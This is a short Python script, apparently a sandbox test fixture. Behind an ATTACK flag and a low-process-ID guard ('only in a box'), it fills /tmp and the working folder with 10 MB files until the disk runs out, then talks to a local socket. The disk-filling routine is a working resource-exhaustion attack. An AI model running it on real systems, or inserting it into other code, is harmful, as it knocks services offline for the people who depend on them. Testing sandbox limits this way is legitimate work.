# Writes files wherever it may until there is no more room.
import os
import socket
import sys

ATTACK = True
MB = 100000


def fill(folder):
    try:
        for number in range(MB // 10):
            with open(f"{folder}/big-{number}", "wb") as file:
                file.write(bytes(10 << 20))
    except OSError:
        pass


if ATTACK:
    if os.getpid() > 100:
        sys.exit("only in a box")
    fill("/tmp")
    fill(".")

server = socket.create_connection(("127.0.0.1", 6789))
server.sendall(b"hello")
reply = b""
while data := server.recv(4096):
    reply += data
print(reply.decode())
